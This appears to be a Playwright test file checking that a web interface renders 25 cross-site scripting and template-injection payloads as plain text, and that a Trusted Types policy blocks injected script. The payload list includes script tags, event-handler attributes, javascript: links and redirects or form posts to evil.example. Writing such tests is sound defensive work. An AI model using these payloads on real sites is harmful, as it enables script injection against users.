"""Whatever people, nodes, images or logs say is text (attacks.md, W-6, W-7, W-11)."""

from __future__ import annotations

from typing import Any

from playwright.async_api import Page, expect

from agent.orders.results import Problem, Result
from bot.engine.effects import AskFacts, SendOrder
from bot.engine.events import FactsCame
from tests.page.conftest import KNOWN, Screen, asked, form, press
from tests.runtime.lab import now_ms

PAYLOADS = (
    "<script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<iframe srcdoc='<script>parent.pwned()</script>'>",
    "<body onload=pwned()>",
    "<details open ontoggle=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<video><source onerror=pwned()></video>",
    "<a href=javascript:pwned()>click</a>",
    "[click](javascript:pwned())",
    "![x](x\" onerror=\"pwned())",
    "\"><script>pwned()</script>",
    "' onmouseover='pwned()",
    "</textarea><script>pwned()</script>",
    "</title><script>pwned()</script>",
    "<math><mi//xlink:href=\"data:x,<script>pwned()</script>\">",
    "<template><script>pwned()</script></template>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<form action=https://evil.example><button>go</button></form>",
    "{{7*7}} ${7*7} <%= 7*7 %> {{u.token}}",
    "&lt;script&gt;pwned()&lt;/script&gt;",
)  # fmt: skip
ALLOWED = {
    *(
        "P",
        "DIV",
        "SPAN",
        "CODE",
        "PRE",
        "STRONG",
        "EM",
        "BR",
        "UL",
        "OL",
        "LI",
        "A",
        "TIME",
        "DL",
        "DT",
        "DD",
    ),
    *("TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "BUTTON", "FORM", "INPUT", "LABEL", "DL", "DT", "DD"),
}


async def only_text(page: Page) -> None:
    """No payload became an element, and none ran."""
    tags = await page.evaluate(
        """() => [...new Set([...document.querySelectorAll("#log *, #stage *")].map((e) => e.tagName))]"""
    )
    assert set(tags) <= ALLOWED
    assert await page.evaluate("typeof globalThis.ran") == "undefined"
    odd = await page.evaluate(
        """() => [...document.querySelectorAll("*")].flatMap((e) => [...e.attributes])
          .filter((a) => a.name.startsWith("on") || /^\\s*javascript:/i.test(a.value)
            && ["href", "src", "action", "formaction"].includes(a.name)).map((a) => a.name + a.value)"""
    )
    assert odd == []


async def watched(screen: Screen) -> None:
    await screen.context.add_init_script("globalThis.pwned = () => { globalThis.ran = true; };")


async def test_25_payloads_as_answers_stay_text_on_both_ways_to_the_page(screen: Screen) -> None:
    await watched(screen)
    page = await screen.session("greet")
    for n, payload in enumerate(PAYLOADS):
        await asked(page, "Who are you?")
        await page.locator("#answer").fill(payload)
        await press(page, "Continue")
        await asked(page, "How often?")
        await expect(page.locator(".entry.answered .text").last).to_have_text(payload.strip())
        if n < len(PAYLOADS) - 1:
            await press(page, "Back")
    await page.locator("#answer").fill("1")
    await press(page, "Continue")
    await expect(page.locator(".entry.ended")).to_be_visible()
    await only_text(page)
    await page.reload()
    await expect(page.locator(".entry.ended")).to_be_visible()
    await only_text(page)
    shown = await page.locator(".entry.answered .text").all_inner_texts()
    assert [text.strip() for text in shown[: len(PAYLOADS)]] == [p.strip() for p in PAYLOADS]


async def test_25_payloads_from_a_node_stay_text(screen: Screen) -> None:
    await watched(screen)

    async def facts(effect: AskFacts) -> FactsCame:
        options = [
            {
                "value": f"c{n}",
                "label": p,
                "description": p,
                "disabled": p if n % 2 else "",
                "data": {"name": p},
            }
            for n, p in enumerate(PAYLOADS)
        ]
        return FactsCame(at_ms=now_ms(), lookup_id=effect.id, facts={"options": options})

    screen.house.world.facts = facts
    page = await screen.session(**{k: v for k, v in KNOWN.items() if k != "container"})
    await asked(page, "Which container?")
    labels = await page.locator(".card-label").all_inner_texts()
    assert [label.strip() for label in labels] == [p.strip() for p in PAYLOADS]
    await page.locator(".search .input").fill("<script>")
    await expect(page.locator(".search .fine")).to_contain_text("of 25 shown")
    await page.locator(".search .input").fill("<nothing like it>")
    await expect(page.locator(".search .fine")).to_have_text("Nothing matches “<nothing like it>”.")
    await page.locator(".search .input").fill("")
    await page.locator(".card input[value=c0]").check()
    await only_text(page)
    await page.reload()
    await asked(page, "Which container?")
    await only_text(page)


async def test_25_payloads_in_what_a_node_says_went_wrong_stay_text(screen: Screen) -> None:
    await watched(screen)

    def failing(effect: SendOrder) -> Result:
        problem = Problem(code="internal", says=" ".join(PAYLOADS), do=PAYLOADS[0], evidence=PAYLOADS)
        return Result(
            order=effect.id, node=effect.node, verb=effect.order["verb"], outcome="failed", problem=problem
        )

    screen.house.world.answering = failing
    page = await screen.session("fetch", ref=PAYLOADS[1])
    await expect(form(page)).to_contain_text("Fetch it?")
    await expect(page.locator(".summary dd")).to_have_text(PAYLOADS[1])
    await press(page, "Yes, go ahead")
    await expect(page.locator("#log")).to_contain_text(PAYLOADS[0])
    await only_text(page)
    await page.reload()
    await expect(page.locator("#log")).to_contain_text(PAYLOADS[0])
    await only_text(page)


async def test_injected_script_is_stopped_by_the_policy(screen: Screen) -> None:
    """The second wall: even an element that got in could run nothing."""
    page = await screen.open("/")
    outcome: Any = await page.evaluate(
        """async () => {
          globalThis.ran = undefined;
          const heard = new Promise((go) => document.addEventListener("securitypolicyviolation",
            (e) => go(e.effectiveDirective), { once: true }));
          try { document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='globalThis.ran=1'>"); }
          catch (e) { return [await heard, e.name, globalThis.ran]; }
          return ["not stopped"]; }"""
    )
    assert outcome == ["require-trusted-types-for", "TypeError", None]
    screen.wrong.clear()


async def test_what_is_typed_on_the_start_page_stays_text(screen: Screen) -> None:
    await watched(screen)
    page = await screen.open("/")
    for payload in (PAYLOADS[0], PAYLOADS[12], PAYLOADS[23]):
        await page.locator("#say").fill(payload)
        await page.keyboard.press("Enter")
        await expect(page.locator(".start-says")).to_be_visible()
        await expect(page.locator("#say")).to_have_value(payload)
        assert await page.evaluate("typeof globalThis.ran") == "undefined"
